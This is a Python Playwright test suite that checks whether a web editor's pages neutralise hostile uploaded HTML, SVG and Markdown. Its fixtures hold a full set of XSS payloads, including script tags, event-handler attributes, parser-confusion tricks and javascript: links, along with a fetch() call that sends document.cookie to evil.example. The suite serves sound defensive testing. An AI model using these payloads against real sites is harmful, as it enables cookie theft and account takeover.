"""Documents that mean harm, in a real browser: they run nothing, read nothing, fetch nothing, change nothing."""

from __future__ import annotations

from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING
from urllib.parse import quote, urlsplit

import pytest
from playwright.async_api import Error as BrowserError

from tests.web.browsing import PATIENCE_MS, check_page

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from playwright.async_api import Dialog, Page, Request, Route

    from tests.api.world import Project
    from tests.web.browsing import Site

EVIL = "http://evil.example"
RUN = (
    f"alert(1);document.title='run';document.documentElement.dataset.run=1;fetch('{EVIL}/?'+document.cookie)"
)
SCRIPT = f"<script>{RUN}</script><script src='{EVIL}/x.js'></script>"
HANDLERS = "".join(
    f'<{tag} {name}="{RUN}" src="x" href="x" autofocus tabindex="0" contenteditable>x</{tag}>'
    for tag, name in (
        ("img", "onerror"),
        ("body", "onload"),
        ("input", "onfocus"),
        ("details open", "ontoggle"),
        ("video", "onerror"),
        ("svg", "onload"),
        ("div", "onanimationstart"),
        ("x", "onmouseover"),
    )
)
FETCHES = f"""
<img src="{EVIL}/img"><img srcset="{EVIL}/set 1x"><picture><source srcset="{EVIL}/source"><img></picture>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="&lt;script&gt;top.document.title='run'&lt;/script&gt;"></iframe>
<iframe src="/auth/session"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<link rel="stylesheet" href="{EVIL}/css"><link rel="prefetch" href="{EVIL}/prefetch"><base href="{EVIL}/">
<meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<style>@import url({EVIL}/import); body {{ background: url({EVIL}/bg); display: none }}</style>
<p style="background:url({EVIL}/style);position:fixed;inset:0">over</p><table background="{EVIL}/old"></table>
<video poster="{EVIL}/poster"></video><audio src="{EVIL}/audio" autoplay></audio>
<form action="{EVIL}/form"><button>Send</button></form><form action="/auth/logout" method="post"><input type="submit"></form>
<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{RUN}" width="9" height="9">
<script>{RUN}</script><script xlink:href="{EVIL}/svg.js"/><image href="{EVIL}/svg-image" width="9" height="9"/>
<use href="{EVIL}/svg-use#x"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{RUN}"/>
<iframe src="{EVIL}/svg-frame"/></body></foreignObject><animate attributeName="href" values="javascript:{RUN}"/>
<style>@import url({EVIL}/svg-css); rect {{ fill: url({EVIL}/svg-fill) }}</style><a href="javascript:{RUN}"><rect width="9" height="9"/></a></svg>"""
HTML = f"<!doctype html><title>Mine</title>{SCRIPT}{HANDLERS}{FETCHES}{SVG}"
LINKS = """
[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x)
[e](java&#x0A;script:alert(1)) [f](&#106;avascript:alert(1)) ![g](javascript:alert(1)) <javascript:alert(1)>
[h](<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>) [i]( "onmouseover=alert(1)) [j][k]
![l](data:image/svg+xml,<svg/onload=alert(1)>) [m](//evil.example/x) [n](http://a"onmouseover="alert(1))

[k]: javascript:alert(1) "x"
"""
MARKDOWN = f"# Harm {SCRIPT}\n\n{HTML}\n\n{LINKS}\n\n![spy]({EVIL}/spy.png)\n\n```html\n{HTML}\n```\n\n| {HANDLERS} |\n|---|\n| {SCRIPT} |\n"
NAME = "a\u202eexe.<img src=x onerror=alert(1)>\u2066.md"
MESSAGE = f"{SCRIPT}<b>bold</b> \u202eesrever\n\n{FETCHES}"


class Watched:
    """A page of an editor's, and all that it did which it shouldn't."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.own = urlsplit(url).netloc
        self.harm: list[str] = []
        page.context.on("dialog", self._on_dialog)
        page.context.on("request", self._on_request)
        page.context.on("page", lambda opened: self.harm.append(f"opened {opened.url}"))

    async def watch_others(self) -> None:
        """Note what goes out to others; what a policy holds back never comes this far."""
        await self.page.context.route(lambda url: urlsplit(url).netloc != self.own, self._on_other)

    async def _on_other(self, route: Route) -> None:
        self.harm.append(route.request.url)
        with suppress(BrowserError):  # a page that is closing needs no answer
            await route.abort()

    def _on_request(self, request: Request) -> None:
        if request.method != "GET":
            # A page says that it is there (presence); nothing else is sent by looking.
            known = request.url.endswith("/presence")
            if not known:
                self.harm.append(f"{request.method} {request.url}")

    async def _on_dialog(self, dialog: Dialog) -> None:
        self.harm.append(f"{dialog.type}: {dialog.message}")
        with suppress(BrowserError):
            await dialog.dismiss()

    async def harmed(self, beginning: str) -> None:
        """Wait until it did something of that kind."""
        for _ in range(300):
            if any(each.startswith(beginning) for each in self.harm):
                return
            await self.page.wait_for_timeout(50)
        raise AssertionError(self.harm)

    async def settle(self) -> None:
        """Give what waits (refreshes, animations, handlers of focus) the time to do harm."""
        await self.page.wait_for_timeout(400)
        assert self.harm == []
        assert await self.page.evaluate("document.documentElement.dataset.run") is None
        assert await self.page.title() != "run"


@asynccontextmanager
async def watching(site: Site) -> AsyncIterator[Watched]:
    context = await site.browser.new_context(base_url=site.url, storage_state=site.states["editor"])
    context.set_default_timeout(PATIENCE_MS)
    try:
        watched = Watched(await context.new_page(), site.url)
        await watched.watch_others()
        yield watched
    finally:
        await context.close()


@pytest.fixture(scope="module")
def harmful(project: Project) -> dict[str, str]:
    """Every kind of document with all of it in them; the addresses of pages that show them."""
    project.change(
        {"path": NAME, "text": MARKDOWN, "media_type": "text/markdown"},
        {"path": "page.html", "text": HTML, "media_type": "text/html"},
        {"path": "page.xhtml", "text": HTML, "media_type": "application/xhtml+xml"},
        {"path": "picture.svg", "text": SVG, "media_type": "image/svg+xml"},
        {"path": "README.md", "text": MARKDOWN, "media_type": "text/markdown"},
        message=MESSAGE,
    )
    tree = project.people.reader.get(f"{project.url}/tree").json()["items"]
    documents = {entry["path"]: entry["document"] for entry in tree}
    sequence = project.people.reader.get(project.url).json()["change_sequence"]
    home, file = f"/p/{project.slug}", quote(NAME)
    return {
        "rendered": f"{home}/files/{file}",
        "source": f"{home}/files/{file}?view=source",
        "html": f"{home}/files/page.html",
        "picture": f"{home}/files/picture.svg",
        "diff": f"{home}/documents/{documents[NAME]}/diff",
        "side by side": f"{home}/documents/{documents['page.html']}/diff?view=split",
        "blame": f"{home}/documents/{documents[NAME]}/blame",
        "history": f"{home}/documents/{documents[NAME]}",
        "change": f"{home}/changes/{sequence}",
        "changes": f"{home}/history",
        "overview": home,
        "editor": f"{home}/edit/{file}",
        "move": f"{home}/move/{file}",
        "search": f"{home}/search?q=alert",
    }


SHOWN = (
    *("rendered", "source", "html", "picture", "diff", "side by side", "blame", "history", "change"),
    *("changes", "overview", "editor", "move", "search"),
)


@pytest.fixture(scope="module")
async def watched(site: Site) -> AsyncIterator[Watched]:
    """One page, for what does it no harm."""
    async with watching(site) as one:
        yield one


@pytest.mark.parametrize("which", SHOWN)
async def test_a_page_that_shows_harm_does_none(
    watched: Watched, harmful: dict[str, str], which: str
) -> None:
    page = watched.page
    answer = await page.goto(harmful[which])
    assert answer is not None
    assert answer.status == 200
    policy = answer.headers["content-security-policy"]
    assert "script-src 'self';" in policy
    assert "unsafe" not in policy
    await watched.settle()
    assert urlsplit(page.url).path == urlsplit(harmful[which]).path
    # Nothing of a document's own is an element that could act.
    assert await page.locator("main :is(script, iframe, object, embed, base, meta, link, style)").count() == 0
    assert (
        await page.locator(f"[href^='{EVIL}/']:not(a), [src^='{EVIL}'], form[action^='{EVIL}']").count() == 0
    )
    on_handlers = """() => Array.from(document.querySelectorAll("*")).flatMap(each =>
      Array.from(each.attributes, one => one.name)).filter(name => name.startsWith("on") || name === "style")"""
    assert await page.evaluate(on_handlers) == []
    links = await page.evaluate("Array.from(document.querySelectorAll('[href]'), each => each.href ?? '')")
    schemes = {str(each).partition(":")[0].lower() for each in links if isinstance(each, str)}
    assert schemes <= {"http", "https", "mailto"}, schemes
    assert await page.locator("#main").is_visible()


async def open_raw(watched: Watched, address: str, *, without: tuple[str, ...]) -> dict[str, str]:
    """Show raw bytes as a page, as if some headers had not been sent; return all that were."""
    said: dict[str, str] = {}

    async def shown(route: Route) -> None:
        answer = await route.fetch()
        said.update(answer.headers)
        kept = {name: value for name, value in answer.headers.items() if name not in without}
        await route.fulfill(response=answer, headers=kept)

    await watched.page.route(f"**{address}", shown)
    await watched.page.goto(address)
    return said


@pytest.mark.parametrize("path", ["page.html", "page.xhtml", "picture.svg", "README.md"])
async def test_raw_bytes_in_a_browser_are_sandboxed(
    site: Site, project: Project, harmful: dict[str, str], path: str
) -> None:
    """Shown as a page against the server's word (it says attachment), the policy alone still holds."""
    assert harmful
    async with watching(site) as watched:
        address = f"/v1/projects/{project.slug}/files/{path}"
        said = await open_raw(watched, address, without=("content-disposition",))
        await watched.page.wait_for_timeout(400)
        assert "sandbox" in said["content-security-policy"]
        assert "allow-scripts" not in said["content-security-policy"]
        assert said["x-content-type-options"] == "nosniff"
        if path != "README.md":
            assert said["content-disposition"].startswith("attachment")
        assert watched.harm == []
        page = watched.page
        assert await page.evaluate("document.documentElement.dataset.run") is None
        assert await page.evaluate("self.origin") == "null"
        cookies = "(() => { try { return document.cookie } catch (error) { return error.name } })()"
        assert await page.evaluate(cookies) == "SecurityError"


@pytest.mark.parametrize("path", ["page.html", "picture.svg"])
async def test_without_the_policy_the_same_bytes_would_do_harm(
    site: Site, project: Project, harmful: dict[str, str], path: str
) -> None:
    """What the tests above watch for is seen where it happens."""
    assert harmful
    async with watching(site) as watched:
        address = f"/v1/projects/{project.slug}/files/{path}"
        await open_raw(watched, address, without=("content-disposition", "content-security-policy"))
        await watched.harmed("alert")
        await watched.harmed(EVIL)


async def test_odd_names_are_named_not_obeyed(web: Site, harmful: dict[str, str]) -> None:
    page = await web.page("reader", harmful["source"])
    assert "<img src=x onerror=alert(1)>" in await page.locator("h1").inner_text()
    await check_page(page)
